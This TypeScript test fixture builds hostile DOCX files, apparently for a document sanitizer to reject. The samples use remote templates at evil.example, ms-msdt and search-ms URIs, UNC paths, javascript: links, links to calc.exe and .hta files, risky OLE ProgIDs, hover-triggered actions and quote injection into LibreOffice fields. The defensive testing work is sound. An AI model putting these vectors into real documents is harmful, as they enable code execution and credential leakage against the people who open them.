import { docxFile, relationships, wordDocument, wordPart } from '../../../support/docx';
import { splitBases } from '../../../support/link-bases';
import { networkPaths, servers, twistedPaths } from '../../../support/windows-names';
import { type Hostile, hostileFile } from './hostile';

const hostile = hostileFile('docx');

const external = (type: string, target: string) =>
  docxFile({ 'word/_rels/document.xml.rels': relationships([type, target, 'External']) });

const addresses = [
  'https://evil.example/x.dotm',
  'HTTP://evil.example/x.dotm',
  'ftp://evil.example/x.dotm',
  'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html',
  'javascript:alert(1)',
  'data:text/html,x',
  'ms-msdt:/id x',
  'search-ms:query=x&amp;crumb=location:\\\\evil.example\\x',
];

const kinds = [
  'attachedTemplate',
  'oleObject',
  'package',
  'frame',
  'subDocument',
  'aFChunk',
  'image',
  'mailMergeSource',
  'mailMergeHeaderSource',
  'transform',
  'externalLinkPath',
  'stylesheet',
  'video',
  'recipientData',
];

const fetched: Hostile[] = [
  ...['oleObject', 'package', 'frame', 'image', 'video', 'externalLinkPath'].flatMap((kind) =>
    ['file:///C:\\Windows\\System32\\calc.exe', 'file:///C:/a/x.hta'].map((target) =>
      hostile(`with a ${kind} that is ${target}`, external(kind, target), 'a link to a program'),
    ),
  ),
  ...[...servers, ...twistedPaths, ...networkPaths, ...addresses].map((target) =>
    hostile(`with a template at ${target}`, external('attachedTemplate', target), 'fetched from elsewhere'),
  ),
  ...kinds.flatMap((kind) =>
    ['http://evil.example/x', 'file:////evil.example/x'].map((target) =>
      hostile(`with a ${kind} at ${target}`, external(kind, target), 'fetched from elsewhere'),
    ),
  ),
  hostile(
    'with a template in the other dialect',
    external('http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate', 'http://evil.example/x'),
    'fetched from elsewhere',
  ),
  ...['Id', 'Type', 'Target'].map((attribute) =>
    hostile(
      `with a reference without its ${attribute}`,
      docxFile({
        'word/_rels/document.xml.rels': relationships(['image', 'media/a.png']).replace(` ${attribute}=`, ' x='),
      }),
      'damaged',
    ),
  ),
  hostile(
    'that uses a link as a picture, in the other dialect',
    docxFile({
      'word/document.xml': wordDocument(
        '<a:blip xmlns:s="http://purl.oclc.org/ooxml/officeDocument/relationships" s:link="r0"/>',
      ),
      'word/_rels/document.xml.rels': relationships(['hyperlink', 'http://evil.example/x', 'External']),
    }),
    'fetched from elsewhere',
  ),
  hostile('with an unknown kind of reference', external('urn:x/unknown', 'http://evil.example/x'), 'fetched'),
  hostile(
    'with a remote template that is called internal',
    docxFile({ 'word/_rels/settings.xml.rels': relationships(['attachedTemplate', 'http://evil.example/x']) }),
    'fetched from elsewhere',
  ),
  hostile(
    'with a remote template in capitals',
    docxFile({
      'WORD/_RELS/SETTINGS.XML.RELS': relationships(['attachedTemplate', 'http://evil.example/x', 'EXTERNAL']),
    }),
    'fetched from elsewhere',
  ),
  ...[
    ...['<w:attachedTemplate r:id="r0"/>', '<w:p><a:blip r:link="r0"/></w:p>', '<o:OLEObject o:relid="r0"/>'],
    ...['<w:pict><v:imagedata r:id="r0"/></w:pict>', '<v:fill r:id="r0"/>', '<o:OLEObject Type="Link" r:id="r0"/>'],
  ].flatMap((use) =>
    ['http://evil.example/x', 'file:///srv/evil.example/x.png', '/srv/evil.example/x.png', 'x.png', ''].map((target) =>
      hostile(
        `that uses a link to "${target}" as ${use}`,
        docxFile({
          'word/document.xml': wordDocument(use),
          'word/_rels/document.xml.rels': relationships(['hyperlink', target, 'External']),
        }),
        'fetched from elsewhere',
      ),
    ),
  ),
  ...[
    '\\\\evil.example\\x',
    'ms-msdt:/id',
    'file:///net/evil.example/x.png',
    '/dev/zero',
    'file:///C:/:$i30:$bitmap',
  ].map((address) =>
    hostile(
      `with a kind of words that is explained at ${address}`,
      docxFile({ 'word/settings.xml': wordPart('settings', `<w:smartTagType w:name="place" w:url="${address}"/>`) }),
      'leads to',
    ),
  ),
  ...[
    'Shell.Explorer.1',
    'htmlfile',
    'ShockwaveFlash.ShockwaveFlash',
    'scriptletfile',
    'OTKLOADR.WRAssembly.1',
  ].flatMap((program) =>
    [`<o:OLEObject Type="Embed" ProgID="${program}"/>`, `<w:objectEmbed w:progId="${program}"/>`].map((object) =>
      hostile(
        `with an object that names its program, as ${object}`,
        docxFile({ 'word/document.xml': wordDocument(`<w:p><w:r><w:object>${object}</w:object></w:r></w:p>`) }),
        'unknown kind',
      ),
    ),
  ),
  ...['manifestLocation', 'schemaLocation'].map((name) =>
    hostile(
      `with a ${name}`,
      docxFile({ 'word/settings.xml': wordPart('settings', `<w:attachedSchema w:${name}="http://evil.example/x"/>`) }),
      'fetched from elsewhere',
    ),
  ),
  ...[
    ...['src="http://evil.example/x.png"', 'src="\\\\evil.example\\x.png"', 'href="//evil.example/x"'],
    ...['href="http://evil.example/x"', 'o:href="http://evil.example/x"', 'o:althref="http://evil.example/x"'],
    ...['o:sigprovurl="file:///\\evil.examplesharesetup.exe"', 'o:sigprovurl="https://evil.example/x"'],
    ...['o:href="/??/UNC/evil.example/x"', 'o:althref="ms-msdt:/id x"', 'src="\\Device\\Mup\\evil.example\\x"'],
  ].map((attribute) =>
    hostile(
      `with a drawing with ${attribute}`,
      docxFile({ 'word/header1.xml': wordPart('hdr', `<w:pict><v:imagedata ${attribute}/></w:pict>`) }),
      'fetched from elsewhere',
    ),
  ),
];

function properties(base: string): string {
  const namespace = 'http://schemas.openxmlformats.org/officeDocument/2006/extended-properties';
  return `<Properties xmlns="${namespace}"><HyperlinkBase>${base}</HyperlinkBase></Properties>`;
}

function olderProperty(base: string): string {
  const namespace = 'http://schemas.openxmlformats.org/officeDocument/2006/custom-properties';
  const types = 'http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes';
  return `<Properties xmlns="${namespace}" xmlns:vt="${types}"><property name="_PID_LINKBASE"><vt:lpwstr>${base}</vt:lpwstr></property></Properties>`;
}

const clicked: Hostile[] = [
  ...['javascript:alert(1)', 'ms-msdt:/id x', '\\\\evil.example\\x'].map((address) =>
    hostile(
      `with a shape that is a link to ${address}`,
      docxFile({ 'word/document.xml': wordDocument(`<v:shape href="${address}"/>`) }),
      'leads to a program',
    ),
  ),
  ...['program', 'macro'].map((kind) =>
    hostile(
      `with a link to a ${kind} of a presentation`,
      docxFile({ 'word/document.xml': wordDocument(`<a:hlinkClick action="ppaction://${kind}?name=x"/>`) }),
      'starts a program',
    ),
  ),
  ...['hlinkHover', 'hlinkMouseOver'].flatMap((element) => [
    ...[
      ['hyperlink', 'https://evil.example/x', 'External'] as const,
      ['hyperlink', 'https://evil.example/x', 'Internal'] as const,
      ['hyperlink', 'mailto:x@evil.example', 'External'] as const,
      ['hyperlink', 'other.pptx', 'External'] as const,
      ['hyperlink', 'file:///C:/a.doc', 'Internal'] as const,
      ['hyperlink', '\\Device\\Mup\\evil.example\\x', 'External'] as const,
      ['slide', 'file:///C:/a.pptx', 'External'] as const,
    ].map((reference) =>
      hostile(
        `with ${element} to ${reference.join(' ')}`,
        docxFile({
          'word/document.xml': wordDocument(`<a:${element} r:id="r0"/>`),
          'word/_rels/document.xml.rels': relationships([...reference]),
        }),
        'without a click',
      ),
    ),
    ...['hlinkfile', 'hlinkpres?slideindex=1', 'ole?verb=0', 'unknown', 'media/../hlinkfile'].map((action) =>
      hostile(
        `with ${element} that does ${action}`,
        docxFile({ 'word/document.xml': wordDocument(`<a:${element} r:id="" action="ppaction://${action}"/>`) }),
        'without a click',
      ),
    ),
    ...['program', 'macro'].map((kind) =>
      hostile(
        `with ${element} that starts a ${kind}`,
        docxFile({ 'word/document.xml': wordDocument(`<a:${element} action="ppaction://${kind}?name=x"/>`) }),
        'starts a program',
      ),
    ),
  ]),
  hostile(
    'whose links count from two addresses',
    docxFile({ 'docProps/app.xml': properties('file://evil.example<x/>') }),
    'damaged',
  ),
  ...[
    ...servers,
    ...twistedPaths,
    'microsoft.windows.camera:1',
    'javascript:alert(1)',
    'vbscript:x',
    'data:text/html,x',
    'ms-msdt:/id x',
    'ms-word:ofe|u|http://x',
  ].map((target) => hostile(`with a link to ${target}`, external('hyperlink', target), 'leads to a program')),
  // Word finds pictures by it as well.
  ...[...servers, ...splitBases, 'https://example.com/', 'HTTP://example.com'].map((base) =>
    hostile(`whose links count from ${base}`, docxFile({ 'docProps/app.xml': properties(base) }), 'a base address'),
  ),
  hostile(
    'whose links count from an older property',
    docxFile({ 'docProps/custom.xml': olderProperty('file://') }),
    'a base address',
  ),
  ...splitBases.map((base) =>
    hostile(
      `with a part that counts from ${base}`,
      docxFile({ 'customXml/item1.xml': `<x xmlns="urn:x" xml:base="${base}"/>` }),
      'a base address',
    ),
  ),
  hostile(
    'whose references count from elsewhere',
    docxFile({
      'word/_rels/document.xml.rels': relationships(['image', 'a.png', 'External']).replace(
        '<Relationship ',
        '<Relationship xml:base="http://evil.example/" ',
      ),
    }),
    'damaged',
  ),
  ...['setup.exe', 'file:///C:/Windows/System32/calc.exe', '..\\x.lnk', 'x.hta?y', 'x.js#y', 'x.scr. .'].map((target) =>
    hostile(`with a link to ${target}`, external('hyperlink', target), 'a link to a program'),
  ),
];

/** LibreOffice puts what a link says into the instruction of a field, between quotes and as it stands. */
const quoted: Hostile[] = [
  ...['anchor', 'tooltip', 'tgtFrame', 'docLocation'].map((name) =>
    hostile(
      `with a link whose ${name} has quotes in it`,
      docxFile({
        'word/document.xml': wordDocument(
          `<w:p><w:hyperlink w:${name}="a&quot; &quot;file://evil.example/share/a&quot;"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>`,
        ),
      }),
      'leads to a program',
    ),
  ),
  hostile(
    'with a link whose tooltip has another before it',
    docxFile({
      'word/document.xml': wordDocument(
        '<w:p><w:hyperlink xmlns:x="urn:x" x:tooltip="a" w:tooltip="a&quot; &quot;file://evil.example/share/a"/></w:p>',
      ),
    }),
    'leads to a program',
  ),
  hostile(
    'with a link whose address has quotes in it',
    docxFile({
      'word/_rels/document.xml.rels': relationships([
        'hyperlink',
        'https://a&quot; &quot;file://evil.example/a',
        'External',
      ]),
    }),
    'a link with a quote',
  ),
];

const inside = (type: string, target: string, mode = 'Internal') =>
  docxFile({
    'word/document.xml': wordDocument('<w:p><w:hyperlink r:id="r0"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>'),
    'word/_rels/document.xml.rels': relationships([type, target, mode]),
  });

const twice = (...types: [string, string]) =>
  docxFile({
    'word/_rels/document.xml.rels': relationships(...types.map((type): [string, string] => [type, 'a.png'])).replace(
      '"r1"',
      '"r0"',
    ),
  });

/** LibreOffice takes the target of whatever relationship a link names. */
const misnamed: Hostile[] = [
  hostile('with two relationships of one name', twice('image', 'hyperlink'), 'damaged'),
  hostile('with two relationships of one name, the other way round', twice('hyperlink', 'image'), 'damaged'),
  hostile(
    'with a link that names a template',
    inside('attachedTemplate', 'C:/Windows/System32/calc.exe', 'External'),
    'another kind than',
  ),
  hostile('with a link that names a picture', inside('image', 'media/a.png'), 'another kind than'),
  ...['C:/Windows/System32/calc.exe', 'x/calc.exe'].map((target) =>
    hostile(`with a link to a part called ${target}`, inside('header', target, 'Internal'), 'a link to a program'),
  ),
];

export const docxsWithLinks: Hostile[] = [...fetched, ...clicked, ...quoted, ...misnamed];
